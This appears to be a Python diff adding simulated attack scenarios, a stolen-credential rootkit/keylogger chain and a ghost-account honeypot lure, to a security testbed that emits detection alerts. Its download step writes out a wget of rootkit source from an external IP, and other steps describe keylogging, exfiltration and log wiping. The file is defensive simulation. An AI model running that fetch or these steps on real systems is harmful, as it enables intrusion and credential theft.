@@ -1,0 +1,154 @@
+"""Stolen-credential and ghost-account attack scenarios.
+
+Credential theft is the classic HPC intrusion (the 2002-era
+download/compile/erase rootkit chain and the 2008-2011 SSH-keylogger
+campaigns both start with a stolen password).  Two scenarios are
+provided:
+
+* :class:`StolenCredentialScenario` -- an attacker logs in with a
+  stolen password from a new network, downloads and compiles a rootkit,
+  escalates, installs a keylogger, exfiltrates harvested credentials
+  and wipes the logs: the canonical S8/S9-style chain.
+* :class:`GhostAccountScenario` -- the attacker takes the bait of a
+  decoy ("ghost") account advertised through a federated identity
+  provider, which is one of the honeypot's credential-hint channels.
+"""
+
+from __future__ import annotations
+
+from typing import Optional, Sequence
+
+from ..testbed.honeypot import Honeypot
+from .base import AttackContext, AttackScenario, AttackStep
+
+
+class StolenCredentialScenario(AttackScenario):
+    """Stolen-password login followed by the rootkit/keylogger chain."""
+
+    name = "stolen_credential_rootkit"
+
+    def __init__(
+        self,
+        *,
+        victim_user: str = "alice",
+        victim_host: str = "login00",
+        payload_url: str = "64.215.33.18/abs.c",
+        include_exfiltration: bool = True,
+        seed: int = 17,
+    ) -> None:
+        super().__init__(seed=seed)
+        self.victim_user = victim_user
+        self.victim_host = victim_host
+        self.payload_url = payload_url
+        self.include_exfiltration = include_exfiltration
+
+    def initial_context(self, *, start_time, attacker_ip, entity=None) -> AttackContext:
+        return super().initial_context(
+            start_time=start_time,
+            attacker_ip=attacker_ip,
+            entity=entity or f"user:{self.victim_user}",
+        )
+
+    def build_steps(self, context: AttackContext) -> Sequence[AttackStep]:
+        host = self.victim_host
+
+        def login(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_login_stolen_credential", host=host, user=self.victim_user)
+            ctx.note(f"logged into {host} as {self.victim_user} with a stolen password")
+
+        def new_origin(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_login_new_origin", host=host, user=self.victim_user)
+            ctx.note("origin network never seen for this account")
+
+        def download(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_download_sensitive", host=host, url=self.payload_url)
+            ctx.note(f"wget http://{self.payload_url}")
+
+        def compile_module(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_compile_kernel_module", host=host)
+            ctx.note("compiled the downloaded source as a kernel module")
+
+        def escalate(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_privilege_escalation", host=host)
+            ctx.note("escalated to uid 0 via the loaded module")
+
+        def keylogger(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_ssh_daemon_replaced", host=host)
+            ctx.advance(60.0)
+            ctx.emit_alert("alert_keylogger_detected", host=host)
+            ctx.note("replaced sshd with a credential-harvesting build")
+
+        def exfiltrate(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_credential_dump_upload", host=host)
+            ctx.note("uploaded harvested credentials")
+
+        def erase(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_erase_forensic_trace", host=host)
+            ctx.note("truncated wtmp/secure and cleared shell history")
+
+        steps = [
+            AttackStep("login", 0.0, login, "stolen-credential login"),
+            AttackStep("new_origin", 5.0, new_origin, "login from an unseen network"),
+            AttackStep("download", 600.0, download, "download source over plain HTTP"),
+            AttackStep("compile", 900.0, compile_module, "compile kernel module"),
+            AttackStep("escalate", 1200.0, escalate, "privilege escalation"),
+            AttackStep("keylogger", 1800.0, keylogger, "install SSH keylogger"),
+        ]
+        if self.include_exfiltration:
+            steps.append(AttackStep("exfiltrate", 3600.0, exfiltrate, "upload credentials"))
+        steps.append(AttackStep("erase", 300.0, erase, "erase forensic trace"))
+        return steps
+
+
+class GhostAccountScenario(AttackScenario):
+    """An attacker uses a decoy federated-identity account advertised as bait."""
+
+    name = "ghost_account"
+
+    def __init__(
+        self,
+        honeypot: Optional[Honeypot] = None,
+        *,
+        ghost_user: str = "svc_archive",
+        seed: int = 19,
+    ) -> None:
+        super().__init__(seed=seed)
+        self.honeypot = honeypot
+        self.ghost_user = ghost_user
+
+    def initial_context(self, *, start_time, attacker_ip, entity=None) -> AttackContext:
+        return super().initial_context(
+            start_time=start_time,
+            attacker_ip=attacker_ip,
+            entity=entity or f"user:{self.ghost_user}",
+        )
+
+    def build_steps(self, context: AttackContext) -> Sequence[AttackStep]:
+        def login(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_ghost_account_login", user=self.ghost_user)
+            ctx.note(f"logged in with the decoy account {self.ghost_user}")
+
+        def probe_database(ctx: AttackContext) -> None:
+            if self.honeypot is not None:
+                entry = next(iter(self.honeypot.entry_points.values()))
+                self.honeypot.probe(ctx.clock, ctx.attacker_ip, entry.address, 5432)
+            ctx.emit_alert("alert_service_version_probe")
+            ctx.note("probed the advertised database")
+
+        def stage_data(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_research_data_staging")
+            ctx.note("staged project data in a world-readable path")
+
+        def exfiltrate(ctx: AttackContext) -> None:
+            ctx.emit_alert("alert_pii_in_http")
+            ctx.note("posted data containing PII to an external host")
+
+        return (
+            AttackStep("login", 0.0, login, "ghost-account login"),
+            AttackStep("probe_database", 300.0, probe_database, "database probing"),
+            AttackStep("stage_data", 1200.0, stage_data, "data staging"),
+            AttackStep("exfiltrate", 2400.0, exfiltrate, "PII exfiltration"),
+        )
+
+
+__all__ = ["StolenCredentialScenario", "GhostAccountScenario"]
